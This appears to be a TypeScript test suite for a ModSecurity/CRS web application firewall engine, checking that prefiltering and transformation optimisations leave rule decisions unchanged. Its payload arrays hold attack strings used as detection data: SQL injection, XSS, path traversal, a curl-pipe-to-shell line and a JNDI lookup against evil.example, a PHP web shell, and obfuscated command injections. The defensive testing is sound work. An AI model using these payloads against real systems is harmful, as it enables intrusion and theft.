/**
 * The speed-ups must not change what the rules decide: the required literals
 * named for a regex are in every value it matches, the transformations give
 * what ModSecurity's loops give, and a rule the prefilter skips is one that
 * would not have matched.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import RE2 from 're2';
import { fold, requiredLiterals } from './literals.js';
import { prefilterFor, SQUEEZE, squeeze } from './prefilter.js';
import { PhraseMatcher } from './aho.js';
import { bytePattern } from './operators.js';
import { TRANSFORMS } from './transforms.js';
import { chainBreakers, charFlags } from './transform-identity.js';
import { CrsTransaction } from './engine.js';
import { RuleSet } from './ruleset.js';
import { loadCrs } from './index.js';

const PAYLOADS = [
  "1' UNION SELECT password FROM users--",
  '<script>alert(1)</script>',
  '<ScRiPt SRC=//evil.example/x.js>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  ';cat /etc/passwd',
  '$(curl http://evil.example/x|sh)',
  '`id`',
  '${jndi:ldap://evil.example/a}',
  'php://filter/convert.base64-encode/resource=index.php',
  '<?php system($_GET["c"]); ?>',
  "'; EXEC xp_cmdshell('dir')--",
  'javascript:alert(document.cookie)',
  '{"$where": "sleep(1000)"}',
  '() { :; }; /bin/bash -c "id"',
  'SELECT * FROM information_schema.tables',
  '1 AND SLEEP(5)',
  'admin\'/*',
  '__proto__[isAdmin]=true',
  'java.lang.Runtime.getRuntime().exec("id")',
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
  'blue shoes',
];

function containsOne(value: string, literals: readonly string[]): boolean {
  const v = fold(value);
  return literals.some((l) => v.includes(l));
}

describe('waf crs: required literals', () => {
  it('names the literals a pattern needs, and none when a part is optional or unknown', () => {
    assert.deepEqual(requiredLiterals('(?i)<script[^>]*>'), ['<script']);
    assert.deepEqual(requiredLiterals('[,/-9;=`]on[a-z]{3,50}'), ['on']);
    assert.deepEqual(requiredLiterals('(?:union|select)\\s+from'), ['union', 'select']);
    assert.deepEqual(requiredLiterals('a(?:b|c)d'), ['abd', 'acd']);
    assert.equal(requiredLiterals('(?:abc)?\\d+'), undefined);
    assert.equal(requiredLiterals('^.*$'), undefined);
    assert.equal(requiredLiterals('\\pL+'), undefined);
  });

  it('holds on every vendored CRS regex: a value the regex matches contains one of its literals', () => {
    const set = loadCrs({ paranoia: 4, threshold: 5, monitor: false });
    let checked = 0;
    for (const list of set.phases) {
      for (const item of list) {
        if (item.kind !== 'rule') continue;
        for (let r: typeof item.rule | undefined = item.rule; r; r = r.chained) {
          const p = r.operator.setPattern;
          if (p === undefined) continue;
          const literals = requiredLiterals(bytePattern(p).slice(4));
          if (!literals) continue;
          const re = new RE2(bytePattern(p));
          for (const payload of PAYLOADS) {
            for (const value of [payload, payload.toLowerCase(), payload.toUpperCase()]) {
              if (re.test(value)) {
                checked++;
                assert.ok(containsOne(value, literals), `rule ${r.id}: ${JSON.stringify(value)} matched without any of ${JSON.stringify(literals.slice(0, 8))}`);
              }
            }
          }
        }
      }
    }
    assert.ok(checked > 50, `only ${checked} matches checked`);
  });
});

/** Command-injection payloads with CRS's evasions between the letters (quotes, backslashes, $variables). */
const EVASIONS = [
  ';b"u"s"y"b"o"x sh', "|b'u's'y'b'o'x", 'x;\\l\\s -la', ';l""s /', '`w\'h\'o\'a\'m\'i`', '$(c$@at /etc/passwd)', ';n[o]hup id',
  '; e"n"v x', '&&time ls', 'a=b;c"a"t /etc/x', '; ls\n', '{ls,-la}', '$(strace -p 1)', ';e$()val x', "';l's'", 'x|l)s ', 'json.ls x',
];

describe('waf crs: literals with the evasion characters squeezed out', () => {
  it('names whole words across the evasion pattern, for values without "$"', () => {
    const evasion = '["\'\\)\\[\\x5c]*(?:(?:(?:\\|\\||&&)[\\s\\x0b]*)?\\$[!#\\(\\*\\-0-9\\?@_a-\\{]*)?\\x5c?';
    const word = (w: string): string => [...w].join(evasion);
    assert.deepEqual(requiredLiterals(`(?i)(?:${word('busybox')}|${word('nohup')})\\b`, SQUEEZE), ['busybox', 'nohup']);
    // without the squeeze the evasion pattern breaks every run: single letters
    assert.ok(requiredLiterals(`(?i)(?:${word('busybox')}|${word('nohup')})\\b`)!.every((l) => l.length === 1));
    // a class mixing squeezed characters with others is unknown, an atom needing "$" cannot match
    assert.deepEqual(requiredLiterals('a[)x]bc', SQUEEZE), ['bc']);
    assert.deepEqual(requiredLiterals('a[)x]bc'), ['a)bc', 'axbc']);
    assert.deepEqual(requiredLiterals('(?:\\$x|ls)', SQUEEZE), ['ls']);
  });

  it('holds on every vendored CRS regex the prefilter reads squeezed: a match holds a literal squeezed, or the value holds "$"', () => {
    const set = loadCrs({ paranoia: 4, threshold: 5, monitor: false });
    const prefilter = prefilterFor(set);
    let rules = 0;
    let checked = 0;
    for (const list of set.phases) {
      for (const item of list) {
        if (item.kind !== 'rule') continue;
        for (let r: typeof item.rule | undefined = item.rule; r; r = r.chained) {
          const slot = prefilter.slots.get(r);
          if (slot === undefined || prefilter.squeezed[slot] !== 1) continue;
          rules++;
          const literals = requiredLiterals(bytePattern(r.operator.setPattern!).slice(4), SQUEEZE)!;
          const re = new RE2(bytePattern(r.operator.setPattern!));
          for (const payload of [...PAYLOADS, ...EVASIONS]) {
            for (const value of [payload, payload.toUpperCase(), `x${payload}`]) {
              if (!re.test(value)) continue;
              checked++;
              assert.ok(value.includes('$') || containsOne(squeeze(value), literals), `rule ${r.id}: ${JSON.stringify(value)} matched without any of ${JSON.stringify(literals.slice(0, 8))}`);
            }
          }
        }
      }
    }
    // 932230, 932235, 932250 at paranoia 1 and their stricter siblings
    assert.ok(rules >= 3, `${rules} squeezed rules`);
    assert.ok(checked > 20, `only ${checked} matches checked`);
  });

  it('a squeezed rule still matches its evasions through a transaction, and passes plain words by', () => {
    const set = new RuleSet();
    const evasion = '["\'\\)\\[\\x5c]*(?:(?:(?:\\|\\||&&)[\\s\\x0b]*)?\\$[!#\\(\\*\\-0-9\\?@_a-\\{]*)?\\x5c?';
    // in SecLang's double-quoted argument the quote is written \", as CRS writes it
    const word = (w: string): string => [...w].join(evasion.replace('"', '\\"'));
    set.loadText(`SecRule ARGS "@rx (?i)(?:[;|\\x60]|^)[\\s\\x0b]*(?:${word('busybox')}|${word('nohup')})\\b" "id:10,phase:1,pass,t:none,log"`, 'squeeze.conf');
    assert.equal(prefilterFor(set).squeezedSlots.length, 1);
    const run = (query: string): number[] => {
      const tx = new CrsTransaction(set, {
        method: 'GET', target: `/?${query}`, protocol: 'HTTP/1.1', headers: [['Host', 'x']], remoteAddr: '10.0.0.1', remotePort: 1, serverPort: 80, uniqueId: 'u',
      });
      tx.runPhase(1);
      return tx.matches.map((m) => m.id);
    };
    assert.deepEqual(run('q=blue+shoes'), []);
    assert.deepEqual(run('q=%3Bbusybox'), [10]);
    assert.deepEqual(run('q=%3Bb%22u%22s%22y%22b%22o%22x'), [10]);
    assert.deepEqual(run("q=%7Cn'o'h'u'p"), [10]);
    assert.deepEqual(run('q=%3Bn%24xohup'), [10]);
    assert.deepEqual(run('q=nohupx'), []);
  });
});

describe('waf crs: @pm matcher', () => {
  it('finds the first phrase case-insensitively, across overlapping phrases', () => {
    const pm = new PhraseMatcher(['he', 'She', 'his', 'hers', 'x']);
    assert.equal(pm.find('USHERS'), 'she');
    assert.equal(pm.find('a his'), 'his');
    assert.equal(pm.find('nothing here'), 'he');
    assert.equal(pm.find('abc'), undefined);
  });
});

describe('waf crs: transformations left as they are', () => {
  it('a value without a chain\'s breaking characters comes out of it the same, up to case', () => {
    const chains = [
      ['utf8tounicode', 'urldecodeuni', 'htmlentitydecode', 'jsdecode', 'cssdecode', 'removenulls'],
      ['cmdline'],
      ['lowercase', 'removewhitespace'],
      ['normalizepathwin'],
      ['replacecomments', 'compresswhitespace'],
    ];
    const alphabet = ['a', 'B', '1', ' ', '%', '+', '&', '\\', '/', '.', '*', '-', '#', '"', ';', '^', '\0', '\xe9', '\t', 'u', '4'];
    for (let k = 0; k < 20000; k++) {
      let s = '';
      const len = k % 9;
      for (let i = 0; i < len; i++) s += alphabet[(k * 7 + i * 13 + (k >> 3)) % alphabet.length];
      for (const chain of chains) {
        if ((charFlags(s) & chainBreakers(chain)) !== 0) continue;
        const out = chain.reduce((v, t) => TRANSFORMS[t]!(v), s);
        assert.equal(fold(out), fold(s), `${chain.join(',')} on ${JSON.stringify(s)}`);
      }
    }
  });
});

describe('waf crs: prefiltered rules decide as before', () => {
  it('matches what the rules match, and skips what they skip', () => {
    const set = new RuleSet();
    set.loadText(
      [
        'SecRule ARGS "@rx (?i)<script[^>]*>" "id:1,phase:1,pass,t:none,t:urlDecodeUni,t:htmlEntityDecode,log"',
        'SecRule ARGS|REQUEST_HEADERS:User-Agent "@pm sqlmap nikto" "id:2,phase:1,pass,t:none,t:lowercase,log"',
        'SecRule ARGS "@rx union\\s+select" "id:3,phase:1,pass,t:none,t:lowercase,t:cmdLine,log"',
      ].join('\n'),
      'speed.conf',
    );
    const run = (target: string, ua = 'Mozilla/5.0'): number[] => {
      const tx = new CrsTransaction(set, {
        method: 'GET', target, protocol: 'HTTP/1.1', headers: [['Host', 'x'], ['User-Agent', ua]], remoteAddr: '10.0.0.1', remotePort: 1, serverPort: 80, uniqueId: 'u',
      });
      tx.runPhase(1);
      return tx.matches.map((m) => m.id);
    };
    assert.deepEqual(run('/?q=blue+shoes&page=2'), []);
    assert.deepEqual(run('/?q=%3CScRiPt%3Ealert(1)'), [1]);
    // the literal "<script" appears only after htmlEntityDecode: the prefilter scans the transformed value
    assert.deepEqual(run('/?q=%26lt;script%26gt;'), [1]);
    assert.deepEqual(run('/?q=%2526%2523x3c;sCrIpT>'), [1]);
    assert.deepEqual(run('/?q=lt;script'), []);
    assert.deepEqual(run('/', 'sqlmap/1.7'), [2]);
    assert.deepEqual(run('/?q=UNION"%20SELECT'), [3]);
  });
});
